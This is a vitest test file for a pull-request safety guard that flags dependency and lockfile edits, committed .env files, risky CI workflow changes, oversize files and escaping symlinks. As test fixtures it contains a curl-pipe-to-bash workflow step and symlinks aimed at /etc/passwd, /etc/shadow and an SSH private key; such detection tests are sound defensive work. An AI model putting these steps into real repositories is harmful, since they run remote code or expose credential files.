import { describe, expect, it } from 'vitest';
import { g1 } from '../../src/guards/g1-manifest-safety/index.js';
import { findingsOf, gate } from '../helpers/gate.js';
import { prRepo, TestRepo } from '../helpers/git-repo.js';

const pkg = (deps: Record<string, string>, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'app', version: '1.0.0', ...extra, dependencies: deps }, null, 2) + '\n';

async function g1Findings(repo: TestRepo, config = {}) {
  const report = await gate(repo, [g1], { config });
  return { report, findings: findingsOf(report, 'G1') };
}

describe('G1 manifests, sensitive paths, oversize files, escaping symlinks', () => {
  it('flags a bumped and an added dependency in package.json, naming both, on the changed line', async () => {
    const repo = prRepo({ 'package.json': pkg({ react: '^18.2.0' }) }, { 'package.json': pkg({ react: '^18.3.1', 'left-pad': '^1.3.0' }) });
    const { report, findings } = await g1Findings(repo);
    expect(findings).toHaveLength(1);
    const f = findings[0]!;
    expect(f.category).toBe('manifest-edit');
    expect(f.severity).toBe('risk');
    expect(f.message).toContain('changes `react` from ^18.2.0 to ^18.3.1');
    expect(f.message).toContain('adds `left-pad` ^1.3.0');
    expect(f.line).toBe(5); // `"react": "^18.3.1"`: the first added line naming a changed dependency
    expect(f.remediation).toContain('/slopgate allow package.json');
    expect(report.decision.outcome).toBe('ADVISE');
  });

  it('makes a manifest edit blocking under strict', async () => {
    const repo = prRepo({ 'api/requirements-dev.txt': 'pytest==7.4.0\n' }, { 'api/requirements-dev.txt': 'pytest==8.2.0\nhypothesis\n' });
    const { report, findings } = await g1Findings(repo, { strict: true });
    expect(findings[0]!.message).toContain('changes `pytest` from ==7.4.0 to ==8.2.0');
    expect(findings[0]!.message).toContain('adds `hypothesis`');
    expect(report.decision.blocking).toBe(1);
    expect(report.decision.outcome).not.toBe('ADVISE');
  });

  it('names the section a Cargo.toml edit changed when no dependency changed', async () => {
    const base = '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1"\n';
    const repo = prRepo({ 'Cargo.toml': base }, { 'Cargo.toml': base.replace('0.1.0', '0.2.0') });
    const { findings } = await g1Findings(repo);
    expect(findings[0]!.message).toContain('it changes [package] (`version` 0.1.0 → 0.2.0).');
    expect(findings[0]!.severity).toBe('risk');
  });

  it('names the keys a changed table gained, lost or changed, up to three (the demo bumps [project] version)', async () => {
    const base = '[project]\nname = "inventory"\nversion = "0.3.0"\nrequires-python = ">=3.9"\ndependencies = []\n';
    const bump = await g1Findings(prRepo({ 'pyproject.toml': base }, { 'pyproject.toml': base.replace('0.3.0', '0.4.0') }));
    expect(bump.findings[0]!.message).toContain('it changes [project] (`version` 0.3.0 → 0.4.0).');
    const head =
      base.replace('0.3.0', '0.4.0').replace('requires-python = ">=3.9"\n', 'scripts = { inv = "inventory:main" }\n') +
      'license = "MIT"\nname2 = "x"\n';
    const many = await g1Findings(prRepo({ 'pyproject.toml': base }, { 'pyproject.toml': head }));
    expect(many.findings[0]!.message).toContain(
      'it adds [project.scripts]; changes [project] (`version` 0.3.0 → 0.4.0, `requires-python` removed, `license` added and 1 more).',
    );
  });

  describe('tool-config-only manifest edits are a nit and say what changed', () => {
    const PYPROJECT = '[project]\nname = "pkg"\nversion = "1.0"\ndependencies = ["anyio>=4"]\n\n[tool.black]\nline-length = 100\n';

    it('a PR that only adds [tool.ruff] tables', async () => {
      const head = `${PYPROJECT}\n[tool.ruff]\nline-length = 100\n\n[tool.ruff.lint]\nselect = ["E", "F"]\n`;
      const { findings, report } = await g1Findings(prRepo({ 'pyproject.toml': PYPROJECT }, { 'pyproject.toml': head }));
      expect(findings).toHaveLength(1);
      expect(findings[0]).toMatchObject({ category: 'manifest-edit', severity: 'nit' });
      expect(findings[0]!.message).toContain('adds [tool.ruff]; adds [tool.ruff.lint]');
      expect(findings[0]!.message).toContain('Only tool configuration changed');
      expect(findings[0]!.message).not.toContain('without changing any dependency');
      expect(report.decision.blocking).toBe(0);
    });

    it('a table renamed with the same content, and a removed one', async () => {
      const head = PYPROJECT.replace('[tool.black]', '[tool.ruff.format]');
      const { findings } = await g1Findings(
        prRepo({ 'pyproject.toml': `${PYPROJECT}\n[tool.isort]\nprofile = "black"\n` }, { 'pyproject.toml': head }),
      );
      expect(findings[0]!.message).toContain('renames [tool.black] to [tool.ruff.format]');
      expect(findings[0]!.message).toContain('removes [tool.isort]');
      expect(findings[0]!.severity).toBe('nit');
    });

    it('package.json: prettier, jest and a test script are tool config; a postinstall script is not', async () => {
      const base = pkg({ react: '^18.2.0' });
      const tool = pkg({ react: '^18.2.0' }, { scripts: { test: 'vitest' }, prettier: { semi: false }, jest: { verbose: true } });
      const nit = await g1Findings(prRepo({ 'package.json': base }, { 'package.json': tool }));
      expect(nit.findings[0]!.severity).toBe('nit');
      expect(nit.findings[0]!.message).toContain('adds `scripts.test`');
      const lifecycle = pkg({ react: '^18.2.0' }, { scripts: { postinstall: 'node setup.js' } });
      const risk = await g1Findings(prRepo({ 'package.json': base }, { 'package.json': lifecycle }));
      expect(risk.findings[0]!.severity).toBe('risk');
      expect(risk.findings[0]!.message).toContain('adds `scripts.postinstall`');
    });

    it('Cargo [lints] and [profile.release] edits are a nit; a dependency change stays a risk', async () => {
      const base = '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1"\n';
      const lints = `${base}\n[lints.clippy]\npedantic = "warn"\n\n[profile.release]\nlto = true\n`;
      expect((await g1Findings(prRepo({ 'Cargo.toml': base }, { 'Cargo.toml': lints }))).findings[0]!.severity).toBe('nit');
      const dep = lints.replace('serde = "1"', 'serde = "1"\nanyhow = "1"');
      const both = (await g1Findings(prRepo({ 'Cargo.toml': base }, { 'Cargo.toml': dep }))).findings[0]!;
      expect(both.severity).toBe('risk');
      expect(both.message).toContain('adds `anyhow` 1 (dependencies)');
      expect(both.message).toContain('adds [lints.clippy]');
    });

    it('reads Poetry multiple-constraint arrays and array-written dependencies', async () => {
      const base =
        '[tool.poetry]\nname = "p"\n\n[tool.poetry.dependencies]\npython = "^3.9"\nnumpy = [\n  { version = "<2", python = "<3.10" },\n  { version = ">=2", python = ">=3.10" },\n]\n';
      const head = base.replace('version = ">=2"', 'version = ">=2.1"');
      const { findings } = await g1Findings(prRepo({ 'pyproject.toml': base }, { 'pyproject.toml': head }));
      expect(findings[0]!.message).toContain(
        'changes `numpy` from <2 (python <3.10) | >=2 (python >=3.10) to <2 (python <3.10) | >=2.1 (python >=3.10)',
      );
      const arr = '[tool.poetry]\nname = "p"\ndependencies = ["requests>=2"]\n';
      const added = await g1Findings(prRepo({ 'pyproject.toml': '[tool.poetry]\nname = "p"\n' }, { 'pyproject.toml': arr }));
      expect(added.findings[0]!.message).toContain('adds `requests` >=2 (tool.poetry.dependencies)');
    });
  });

  it('flags a lockfile edited alone but passes a lockfile edited together with its manifest', async () => {
    const lock = (v: string) =>
      JSON.stringify({ name: 'app', lockfileVersion: 3, packages: { 'node_modules/react': { version: v } } }, null, 2) + '\n';
    const alone = prRepo(
      { 'web/package.json': pkg({ react: '^18.2.0' }), 'web/package-lock.json': lock('18.2.0') },
      { 'web/package-lock.json': lock('18.2.1') },
    );
    const { findings: aloneFindings } = await g1Findings(alone);
    expect(aloneFindings).toHaveLength(1);
    expect(aloneFindings[0]!.category).toBe('sensitive-path');
    expect(aloneFindings[0]!.message).toContain('without changing `package.json`');

    const paired = prRepo(
      { 'web/package.json': pkg({ react: '^18.2.0' }), 'web/package-lock.json': lock('18.2.0') },
      { 'web/package.json': pkg({ react: '^18.3.1' }), 'web/package-lock.json': lock('18.3.1') },
    );
    const { findings: pairedFindings } = await g1Findings(paired);
    expect(pairedFindings.map((f) => f.category)).toEqual(['manifest-edit']);
  });

  it('passes a root Cargo.lock refreshed because a workspace member Cargo.toml changed', async () => {
    const repo = prRepo(
      { 'Cargo.lock': '# lock v1\n', 'crates/core/Cargo.toml': '[package]\nname = "core"\n\n[dependencies]\nserde = "1.0.100"\n' },
      { 'Cargo.lock': '# lock v2\n', 'crates/core/Cargo.toml': '[package]\nname = "core"\n\n[dependencies]\nserde = "1.0.200"\n' },
    );
    const { findings } = await g1Findings(repo);
    expect(findings.map((f) => `${f.category} ${f.path}`)).toEqual(['manifest-edit crates/core/Cargo.toml']);
  });

  it('flags .env.production added (without quoting its content) and .ENV in another case', async () => {
    const repo = prRepo({ 'README.md': 'x\n' }, { '.env.production': 'DB_PASSWORD=hunter2\n', 'deploy/.ENV': 'TOKEN=abc\n' });
    const { findings } = await g1Findings(repo);
    expect(findings.map((f) => f.path).sort()).toEqual(['.env.production', 'deploy/.ENV']);
    for (const f of findings) {
      expect(f.category).toBe('sensitive-path');
      expect(f.message).not.toContain('hunter2');
      expect(f.message).not.toContain('abc');
      expect(f.remediation).toContain('rotate');
    }
  });

  it('passes an edited .env.example and .env.local.sample (templates)', async () => {
    const repo = prRepo(
      { '.env.example': 'DB_PASSWORD=\n' },
      { '.env.example': 'DB_PASSWORD=\nDB_HOST=\n', 'svc/.env.local.sample': 'X=\n' },
    );
    const { findings } = await g1Findings(repo);
    expect(findings).toEqual([]);
  });

  describe('workflow edits: risk for what widens their reach, nit otherwise', () => {
    const CI =
      'name: ci\non:\n  pull_request:\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v3\n      - run: uv run pytest\n';

    it('a routine edit (matrix, action bump, step name) is a nit', async () => {
      const head = CI.replace('setup-uv@v3', 'setup-uv@v5').replace(
        '      - run: uv run pytest\n',
        '      - name: Tests\n        run: uv run pytest -x\n',
      );
      const { findings, report } = await g1Findings(prRepo({ '.github/workflows/ci.yml': CI }, { '.github/workflows/ci.yml': head }));
      expect(findings).toHaveLength(1);
      expect(findings[0]).toMatchObject({ category: 'sensitive-path', severity: 'nit' });
      expect(findings[0]!.message).toContain('Nothing in the change widens what it can reach');
      expect(report.findings.filter((f) => f.severity !== 'nit')).toEqual([]);
    });

    it('pull_request_target, write permissions, new secrets, curl | sh and a new unpinned third-party action are risks', async () => {
      const head = CI.replace('  pull_request:\n', '  pull_request:\n  pull_request_target:\n')
        .replace('  contents: read\n', '  contents: write\n')
        .replace(
          '      - run: uv run pytest\n',
          '      - run: curl -sSL https://example.com/i.sh | bash\n      - uses: someone/deploy-action@main\n        with:\n          token: ${{ secrets.DEPLOY_TOKEN }}\n',
        );
      const { findings } = await g1Findings(prRepo({ '.github/workflows/ci.yml': CI }, { '.github/workflows/ci.yml': head }));
      const f = findings[0]!;
      expect(f.severity).toBe('risk');
      expect(f.evidence?.concerns).toEqual([
        expect.stringContaining('`pull_request_target` trigger'),
        expect.stringContaining('grants `contents: write` for the whole workflow'),
        expect.stringContaining('new secret `DEPLOY_TOKEN`'),
        expect.stringContaining('pipes a download into a shell'),
        expect.stringContaining('third-party action `someone/deploy-action` pinned to `main`'),
      ]);
      expect(f.line).toBe(4);
    });

    it('removing the permissions block is a risk; a new action pinned to a sha, or one used elsewhere at base, is not', async () => {
      const other = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: codecov/codecov-action@v4\n';
      const base = { '.github/workflows/ci.yml': CI, '.github/workflows/cov.yml': other };
      const noPerms = CI.replace('permissions:\n  contents: read\n', '');
      const removed = await g1Findings(prRepo(base, { '.github/workflows/ci.yml': noPerms }));
      expect(removed.findings[0]!.severity).toBe('risk');
      expect(removed.findings[0]!.message).toContain('removes the workflow-level `permissions` block');
      const pinned = CI.replace(
        '      - run: uv run pytest\n',
        `      - uses: other/tool@${'a'.repeat(40)}\n      - uses: codecov/codecov-action@v5\n      - run: uv run pytest\n`,
      );
      const ok = await g1Findings(prRepo(base, { '.github/workflows/ci.yml': pinned }));
      expect(ok.findings[0]!.severity).toBe('nit');
    });

    it('.env, CODEOWNERS and .ssh keep their risk', async () => {
      const { findings } = await g1Findings(
        prRepo({ 'README.md': 'x\n' }, { '.env': 'A=1\n', CODEOWNERS: '* @me\n', 'deploy/.ssh/config': 'Host x\n' }),
      );
      expect(findings.map((f) => f.severity)).toEqual(['risk', 'risk', 'risk']);
    });
  });

  it('flags an edited workflow, a nested one and CODEOWNERS, but not an issue template', async () => {
    const repo = prRepo(
      { '.github/workflows/ci.yml': 'on: push\n', '.github/CODEOWNERS': '* @team\n' },
      {
        '.github/workflows/ci.yml': 'on: [push, pull_request_target]\n',
        'tools/sub/.github/workflows/release.yml': 'on: push\n',
        '.github/CODEOWNERS': '* @me\n',
        '.github/ISSUE_TEMPLATE/bug.md': 'Describe the bug\n',
        'src/CODEOWNERS.md': 'not a codeowners file\n',
      },
    );
    const { findings } = await g1Findings(repo);
    const byPath = Object.fromEntries(findings.map((f) => [f.path, f]));
    expect(Object.keys(byPath).sort()).toEqual([
      '.github/CODEOWNERS',
      '.github/workflows/ci.yml',
      'tools/sub/.github/workflows/release.yml',
    ]);
    expect(byPath['.github/workflows/ci.yml']!.message).toContain('GitHub Actions workflow');
    expect(byPath['.github/workflows/ci.yml']!.line).toBe(1);
    expect(byPath['.github/CODEOWNERS']!.message).toContain('who must approve');
  });

  it('flags a 3 MiB file with its size and passes a file exactly at the limit', async () => {
    const limit = 2 * 1024 * 1024;
    const repo = prRepo(
      { 'README.md': 'x\n' },
      { 'data/dump.bin': Buffer.alloc(3 * 1024 * 1024, 7), 'data/exact.bin': Buffer.alloc(limit, 7) },
    );
    const { findings } = await g1Findings(repo);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.category).toBe('oversize-file');
    expect(findings[0]!.path).toBe('data/dump.bin');
    expect(findings[0]!.message).toContain('3.00 MiB (3145728 bytes)');
    expect(findings[0]!.line).toBeUndefined();
  });

  it('fails a symlink to ../../etc/passwd and an absolute one, passes a symlink inside the repo', async () => {
    const repo = TestRepo.create();
    repo.write({ 'docs/guide.md': '# guide\n' }).commit('base');
    repo.branch('pr');
    repo.symlink('leak', '../../etc/passwd');
    repo.symlink('keys/id', '/home/runner/.ssh/id_rsa');
    repo.symlink('site/guide.md', '../docs/guide.md');
    repo.commit('links');
    const { report, findings } = await g1Findings(repo);
    const byPath = Object.fromEntries(findings.map((f) => [f.path, f]));
    expect(Object.keys(byPath).sort()).toEqual(['keys/id', 'leak']);
    expect(byPath.leak!.severity).toBe('fail');
    expect(byPath.leak!.message).toContain('climbs above the repository root');
    expect(byPath['keys/id']!.message).toContain('absolute path');
    expect(report.decision.blocking).toBe(2);
  });

  it('fails a symlink that escapes through another symlink of the tree', async () => {
    const repo = TestRepo.create();
    repo.write({ 'README.md': 'x\n' });
    repo.symlink('vendor/outside', '../..');
    repo.commit('base');
    repo.branch('pr');
    repo.symlink('docs/secret', '../vendor/outside/etc/shadow');
    repo.commit('indirect link');
    const { findings } = await g1Findings(repo);
    expect(findings.map((f) => f.path)).toEqual(['docs/secret']);
    expect(findings[0]!.message).toContain('climbs above the repository root');
  });

  it('turns a manifest finding off when config manifests.allow sanctions it, and records why', async () => {
    const repo = prRepo(
      { 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["requests>=2.30"]\n' },
      { 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["requests>=2.32", "httpx"]\n' },
    );
    const { report, findings } = await g1Findings(repo, { manifests: { allow: ['pyproject.toml'] } });
    expect(findings).toEqual([]);
    const section = report.sections.sanctions as { allowed: { path: string; category: string; allowedBy: string; finding: string }[] };
    expect(section.allowed).toHaveLength(1);
    expect(section.allowed[0]).toMatchObject({
      path: 'pyproject.toml',
      category: 'manifest-edit',
      allowedBy: 'config manifests.allow: pyproject.toml',
    });
    expect(section.allowed[0]!.finding).toContain('adds `httpx`');
  });

  it('honours a /slopgate allow sanction for a workflow edit', async () => {
    const repo = prRepo({ '.github/workflows/ci.yml': 'on: push\n' }, { '.github/workflows/ci.yml': 'on: [push]\n' });
    const report = await gate(repo, [g1], { sanctions: ['.github/workflows/ci.yml'] });
    expect(findingsOf(report, 'G1')).toEqual([]);
    expect((report.sections.sanctions as { allowed: { allowedBy: string }[] }).allowed[0]!.allowedBy).toContain('/slopgate allow');
  });

  it('flags a deleted go.mod and a renamed pom.xml without a line', async () => {
    const repo = prRepo(
      { 'svc/go.mod': 'module x\n\ngo 1.22\n', 'java/pom.xml': '<project/>\n' },
      { 'svc/go.mod': null, 'java/pom.xml': null, 'java2/pom.xml': '<project/>\n' },
    );
    const { findings } = await g1Findings(repo);
    const messages = findings.map((f) => f.message).sort();
    expect(messages).toEqual([
      'This PR deletes the build manifest `svc/go.mod`.',
      'This PR moves the build manifest `java/pom.xml` to `java2/pom.xml`.',
    ]);
    expect(findings.every((f) => f.line === undefined)).toBe(true);
  });
});
